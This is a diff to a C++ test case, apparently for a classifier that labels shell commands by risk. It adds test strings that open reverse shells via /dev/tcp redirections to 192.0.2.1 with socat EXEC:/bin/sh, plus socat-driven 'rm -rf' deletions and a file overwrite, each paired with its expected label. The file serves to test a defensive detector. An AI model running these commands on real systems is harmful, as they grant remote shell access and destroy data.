@@ -206,6 +206,11 @@ TEST_CASE("shells over sockets") {
       {"ncat --exec /bin/bash -l 4", "net.listen-shell"},
       {"socat TCP:192.0.2.1:4 EXEC:/bin/sh", "net.reverse-shell"},
       {"socat TCP-LISTEN:4,fork EXEC:sh", "net.listen-shell"},
+      {"exec 3<>/dev/tcp/192.0.2.1/4; socat EXEC:/bin/sh FD:3", "net.reverse-shell"},
+      {"exec {s}>/dev/tcp/192.0.2.1/4; socat -u SYSTEM:ls FD:$s", "net.reverse-shell"},
+      {"exec 3>log; socat -u SYSTEM:ls FD:3", "fs.overwrite{log}"},
+      {"socat - EXEC:'rm -rf d'", "fs.delete{d rf}"},
+      {"echo 'rm -rf d' | socat - EXEC:sh", "fs.delete{d rf}"},
       {"nc -zv host 80", ""},
       {"nc -l 4", ""},
   });
